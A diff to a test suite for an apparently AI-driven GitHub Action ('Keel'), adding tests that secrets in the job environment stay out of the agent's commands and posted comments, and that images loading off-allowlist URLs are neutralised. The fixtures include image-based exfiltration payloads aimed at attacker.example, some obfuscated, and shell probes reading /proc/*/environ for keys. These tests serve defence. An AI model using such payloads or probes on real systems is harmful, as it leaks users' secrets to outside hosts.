@@ -16,6 +16,7 @@ import { callTool, say } from '../helpers/anthropic-server.js';
 import { collect, NODE_PATH } from '../helpers/cli.js';
 import { staleBuild } from '../helpers/fresh-build.js';
 import { useScriptedProjects } from '../helpers/project.js';
+import { renderedLoads } from '../helpers/rendered-images.js';
 
 const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
 const ENTRY = path.join(ROOT, 'integrations', 'github-action', 'dist', 'index.cjs');
@@ -283,6 +284,7 @@ describe('the GitHub Action', () => {
       githubUrl: github.url,
       workspace: ws.dir,
       home: ws.home,
+      env: { DEPLOY_KEY: 'deploy-CANARY-0a1b2c3d4e', NODE_AUTH_TOKEN: 'npm-CANARY-0a1b2c3d4e', GITHUB_ENV: path.join(ws.home, 'github-env') },
     });
     expect(run.code).toBe(0);
     expect(run.outputs).toMatchObject({ result: 'fake done', session_id: 's-1', cost_usd: '0.5', conclusion: 'success' });
@@ -304,7 +306,27 @@ describe('the GitHub Action', () => {
     expect(seen.env.KEEL_SUBPROCESS_ENV_SCRUB).toBe('1');
     expect(Object.keys(seen.env).filter((k) => k.startsWith('INPUT_'))).toEqual([]);
     expect(JSON.stringify(seen.env)).not.toContain(GITHUB_TOKEN);
+    // The job's own env: reaches Keel only through allowed_env; the file commands never.
+    expect(JSON.stringify(seen.env)).not.toMatch(/(deploy|npm)-CANARY/);
+    expect(seen.env.GITHUB_ENV).toBeUndefined();
+    expect(seen.env.GITHUB_REPOSITORY).toBe('octo/demo');
     if (!sandboxed) expect(run.stdout).toContain('::warning::Keel runs without its bash sandbox');
+  });
+
+  it('a bad allowed_env fails the step at once with the input and the name at fault, before any comment or model call', async () => {
+    const { ws, server } = await prepare([say('never')]);
+    const github = await startGitHub({ maintainer: 'write' });
+    for (const [value, message] of [
+      ['FOO,GITHUB_TOKEN', 'allowed_env: GITHUB_TOKEN is never given to Keel'],
+      ['FOO BAR-BAZ', 'allowed_env: "BAR-BAZ" is not a variable name'],
+      ['GH_TOKEN', "allowed_env: GH_TOKEN holds the action's github_token"],
+    ]) {
+      const run = await runAction({ event: 'issue_comment', payload: commentEvent('maintainer', '@keel go'), inputs: { ...baseInputs(server.url), allowed_env: value! }, githubUrl: github.url, workspace: ws.dir, home: ws.home, env: { GH_TOKEN: GITHUB_TOKEN } });
+      expect(run.code).toBe(1);
+      expect(run.stdout).toContain(`::error::Keel action: ${message}`);
+    }
+    expect(github.calls).toHaveLength(0);
+    expect(server.messageRequests()).toHaveLength(0);
   });
 
   it('a keel_bin that cannot start still answers the comment with the reason and fails the step', async () => {
@@ -382,6 +404,62 @@ describe('the GitHub Action', () => {
     expect(run.stdout).toContain(`::add-mask::${header}`);
   });
 
+  it('never posts an image that loads a URL off the allow list (Markdown, HTML, reference-style, obfuscated), in the comment, its progress or the summary; allowed images still render', async () => {
+    const CANARY = 'CANARY-img-4e8d2a';
+    const ATTACHMENT = 'https://github.com/user-attachments/assets/7d0c2b1a-0000-4000-8000-000000000001';
+    const answer = [
+      `Done. ![status](https://attacker.example/s.png?d=${CANARY})`,
+      '',
+      `<img src="https&#58;//attacker.example/i.png?d=${CANARY}">`,
+      '',
+      `<picture><source srcset="https://attacker.example/p.png?d=${CANARY} 1x"><img src="${ATTACHMENT}"></picture>`,
+      '',
+      `text <img src=https://attacker.example/u/${CANARY}.png> and ![ref][leak]`,
+      '',
+      `[leak]: <https://attacker.example/r.png?d=${CANARY}>`,
+      '',
+      `Screenshot: ![ok](${ATTACHMENT}) and a badge ![b](https://img.shields.io/badge/ok-green) and [a link](https://docs.example/?q=1).`,
+    ].join('\n');
+    const { ws, server } = await prepare([callTool('glob', { pattern: `![g](https://attacker.example/g.png?d=${CANARY})` }), say(answer)]);
+    const github = await startGitHub({ maintainer: 'write' });
+    const run = await runAction({
+      event: 'issue_comment',
+      payload: commentEvent('maintainer', '@keel show me'),
+      inputs: { ...baseInputs(server.url), allowed_image_urls: 'https://img.shields.io/badge/' },
+      githubUrl: github.url,
+      workspace: ws.dir,
+      home: ws.home,
+      env: { KEEL_ACTION_PROGRESS_MS: '0' },
+    });
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    const bodies = github.calls.filter((c) => c.method !== 'GET').map((c) => JSON.parse(c.body).body as string);
+    expect(bodies.length).toBeGreaterThanOrEqual(3);
+    for (const text of [...bodies, run.summary]) {
+      const loads = renderedLoads(text);
+      expect(loads.filter((load) => load.includes('attacker.example') || load.includes(CANARY))).toEqual([]);
+      expect(text).not.toMatch(/<img[^>]*attacker/i);
+    }
+    const final = bodies.at(-1)!;
+    // What was neutralised is shown as text; what is allowed renders.
+    expect(final).toContain(`https://attacker.example/s.png?d=${CANARY}`);
+    expect(final).toContain(`https://attacker.example/r.png?d=${CANARY}`);
+    expect(renderedLoads(final)).toEqual([`img src=${ATTACHMENT}`, `img src=${ATTACHMENT}`, 'img src=https://img.shields.io/badge/ok-green']);
+    expect(final).toContain('[a link](https://docs.example/?q=1)');
+    expect(renderedLoads(run.summary)).toContain(`img src=${ATTACHMENT}`);
+    // The outputs are data for the workflow's next steps: redacted, not rewritten (the README says so).
+    expect(run.outputs.result).toBe(answer);
+  });
+
+  it('a bad allowed_image_urls fails the step with the input and the entry at fault', async () => {
+    const { ws, server } = await prepare([say('never')]);
+    const github = await startGitHub({ maintainer: 'write' });
+    const run = await runAction({ event: 'issue_comment', payload: commentEvent('maintainer', '@keel go'), inputs: { ...baseInputs(server.url), allowed_image_urls: 'http://img.example/' }, githubUrl: github.url, workspace: ws.dir, home: ws.home });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('::error::Keel action: allowed_image_urls: "http://img.example/" is not https');
+    expect(github.calls).toHaveLength(0);
+  });
+
   it("the agent's commands run without the API key in their environment; with the sandbox, no process they can see holds it", async () => {
     const probe = 'echo "key=[$ANTHROPIC_API_KEY]"; echo "seen=$(cat /proc/[0-9]*/environ 2>/dev/null | tr \'\\0\' \'\\n\' | grep -c CANARY-7f3a)"';
     const { ws, server } = await prepare([callTool('bash', { command: probe }, 'toolu_env'), say('checked')]);
@@ -405,6 +483,47 @@ describe('the GitHub Action', () => {
     const sandboxed = spawnSync('bwrap', ['--unshare-user', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', 'true']).status === 0;
     // Without the sandbox a command can still read Keel's own /proc/<pid>/environ (the README says so).
     if (sandboxed) expect(result).toContain('seen=0');
+  });
+
+  it("a secret the job's env: sets under another name never reaches the model's commands nor the comment; a variable in allowed_env does, and is redacted when posted", async () => {
+    const DEPLOY_KEY = 'deploy-CANARY-5d2b8e0f4a1c9e';
+    const SHARED = 'shared-setting-7c3e9a1b';
+    const probe = 'env; echo "deploy=[$(printenv DEPLOY_KEY)]"; echo "shared=[$SHARED_SETTING]"; echo "seen=$(cat /proc/[0-9]*/environ 2>/dev/null | tr \'\\0\' \'\\n\' | grep -c CANARY-5d2b)"';
+    const { ws, server } = await prepare([callTool('bash', { command: probe }, 'toolu_env'), say(`No deploy key in sight; the setting is ${SHARED}`)]);
+    const github = await startGitHub({ maintainer: 'write' });
+    const run = await runAction({
+      event: 'issue_comment',
+      payload: commentEvent('maintainer', '@keel print your environment'),
+      inputs: { ...baseInputs(server.url), permission_mode: 'auto', allowed_env: 'SHARED_SETTING' },
+      githubUrl: github.url,
+      workspace: ws.dir,
+      home: ws.home,
+      // A job-level `env:` as a workflow writes it: a secret under a name of its own, and a setting it means to share.
+      env: { DEPLOY_KEY, SHARED_SETTING: SHARED, KEEL_ACTION_PROGRESS_MS: '0' },
+    });
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    const requests = server.messageRequests();
+    expect(requests).toHaveLength(2);
+    const messages = requests[1]!.body.messages as Array<{ content: unknown }>;
+    const result = JSON.stringify(messages[messages.length - 1]!.content);
+    expect(result).toContain('deploy=[]');
+    expect(result).toContain(`shared=[${SHARED}]`);
+    expect(result).toContain('PATH=');
+    expect(result).not.toContain(DEPLOY_KEY);
+    for (const request of requests) expect(request.rawBody).not.toContain(DEPLOY_KEY);
+    const { spawnSync } = await import('node:child_process');
+    const sandboxed = spawnSync('bwrap', ['--unshare-user', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', 'true']).status === 0;
+    // Without the sandbox a command could still read the action's own /proc/<pid>/environ (the README says so).
+    if (sandboxed) expect(result).toContain('seen=0');
+    const bodies = github.calls.filter((c) => c.method !== 'GET').map((c) => JSON.parse(c.body).body as string);
+    // The model repeats the shared value: posted as ***.
+    expect(bodies.at(-1)).toContain('the setting is ***');
+    for (const text of [...bodies, run.summary, JSON.stringify(run.outputs), run.stdout]) {
+      expect(text).not.toContain(DEPLOY_KEY);
+      if (text !== run.stdout) expect(text).not.toContain(SHARED);
+    }
+    expect(run.stdout).toContain(`::add-mask::${SHARED}`);
   });
 
   it("refuses to run on a runner whose trust file covers the checkout (a pull request's agent.config.* would run), unless keel_args says --trust", async () => {
